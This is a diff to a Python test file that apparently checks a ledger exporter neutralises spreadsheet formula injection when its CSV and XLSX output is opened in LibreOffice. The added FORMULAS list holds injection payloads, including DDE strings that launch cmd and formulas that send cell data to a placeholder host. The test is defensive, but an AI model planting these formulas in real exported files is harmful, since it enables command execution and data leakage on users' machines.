@@ -24,6 +24,8 @@ from export.conftest import Export
 from greffier.cli.app import run
 from greffier.export.formats import FORMATS
 from greffier.ledger import Question, count_asked, matching, read_ledger, walk
+from greffier.lexicon.cells import restored
+from torture.scale import note
 
 FILTERS = (
     [], ["--kind", "aid"], ["--from", "2031-05-01", "--to", "2031-05-31"], ["--actor", "UA"],
@@ -91,6 +93,7 @@ def test_geojson_is_valid_and_counts_what_has_no_place(export: Export) -> None:
     assert {f["properties"]["status"] for f in json.loads(export("geojson"))["features"]} == {"accepted"}
 
 
+@pytest.mark.sqlite("its statements")
 def test_a_workbook_has_typed_cells_and_no_formula(export: Export, ledger_copy: Path) -> None:
     with read_ledger(ledger_copy) as ledger, ledger.begin() as connection:
         first = next(matching(connection, Question())).report.id
@@ -137,6 +140,7 @@ def test_a_file_that_cannot_be_written_is_one_sentence_and_leaves_nothing(
     assert list(tmp_path.glob("*.part")) == []
 
 
+@pytest.mark.sqlite("a file")
 def test_sqlite_utils_takes_the_table_and_opens_the_ledger(export: Export, told: Path, tmp_path: Path) -> None:
     rows = table(export("csv", "--include-unreviewed"))
     made = tmp_path / "made.db"
@@ -167,3 +171,62 @@ def test_libreoffice_opens_the_workbook(export: Export, tmp_path: Path) -> None:
     assert [row["id"] for row in found] == [row["id"] for row in rows]
     assert [row["anchor"] for row in found] == [row["anchor"].lstrip("'") for row in rows]
     assert [row["when_start"] for row in found] == [row["when_start"] for row in rows]
+
+
+FORMULAS = (
+    "=1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=A1", "=$A$1",
+    '=HYPERLINK("http://exemple.invalid?x="&A1,"ici")', '=WEBSERVICE("http://exemple.invalid/")', "=IMPORTXML(A1,B1)",
+    '=DDE("cmd";"/C calc";"a")', "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=NOW()",
+    "=TODAY()", "=RAND()", "=1/0", '="a"&"b"', "+A1", "-A1", "@A1", "=-1", "==1", "=+1", '=INFO("system")',
+    "=2+5+cmd|' /C calc'!A0",
+)  # fmt: skip
+
+
+@pytest.mark.sqlite("its statements")
+@pytest.mark.slow
+@pytest.mark.parametrize("form", ["csv", "xlsx"])
+def test_libreoffice_reckons_no_formula(export: Export, ledger_copy: Path, tmp_path: Path, form: str) -> None:
+    """S9: after a spreadsheet has opened and reckoned everything anew, the words stand as they were."""
+    assert len(FORMULAS) == 30
+    with sqlite3.connect(ledger_copy) as plain:
+        reports = [row[0] for row in plain.execute("SELECT id FROM report ORDER BY id")]
+    found: dict[str, str] = {}
+    for first in range(0, len(FORMULAS), len(reports)):
+        some = dict(zip(reports, FORMULAS[first:], strict=False))
+        with sqlite3.connect(ledger_copy) as plain:
+            for report, words in some.items():
+                plain.execute("UPDATE report SET title = ? WHERE id = ?", (words, report))
+        rows = table(export(form, "--include-unreviewed", ledger=ledger_copy)) if form == "csv" else []
+        export(form, "--include-unreviewed", ledger=ledger_copy)
+        made = reckoned(tmp_path / f"out.{form}", tmp_path)
+        for row in made:
+            if row["report"] in some:
+                found[some[row["report"]]] = row["title"]
+        for row in rows:
+            if row["report"] in some:
+                assert restored(row["title"]) == some[row["report"]], "our own import gives back the words"
+    told = {words for words in FORMULAS if words in found}
+    assert len(told) > 20, "some reports tell nothing"
+    for words in told:
+        assert found[words].lstrip("'").split() == words.split()  # LibreOffice makes of a tabulator a space
+    note("S9", len(told), 0, "formules ouvertes par LibreOffice · formulas that LibreOffice opened")
+
+
+def reckoned(path: Path, folder: Path) -> list[dict[str, str]]:
+    """The rows of a table as LibreOffice writes them, once it has opened it and reckoned all cells anew."""
+    office = shutil.which("soffice")
+    if office is None and not os.environ.get("CI"):
+        pytest.skip("no LibreOffice here (apt-get install libreoffice-calc-nogui)")
+    assert office is not None, "no LibreOffice: apt-get install libreoffice-calc-nogui"
+    home = f"-env:UserInstallation=file://{folder}/office"
+    read = (
+        ["--infilter=CSV:44,34,76,1,,0,false,true,false,true"] if path.suffix == ".csv" else []
+    )  # formulas are looked for
+    into = ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"]
+    out = folder / "reckoned"
+    command = [office, home, "--headless", *read, *into, "--outdir", str(out), str(path)]
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
+    made = next(out.glob("out*.csv"))
+    rows = list(csv.DictReader(io.StringIO(made.read_text("utf-8"))))
+    made.unlink()
+    return rows
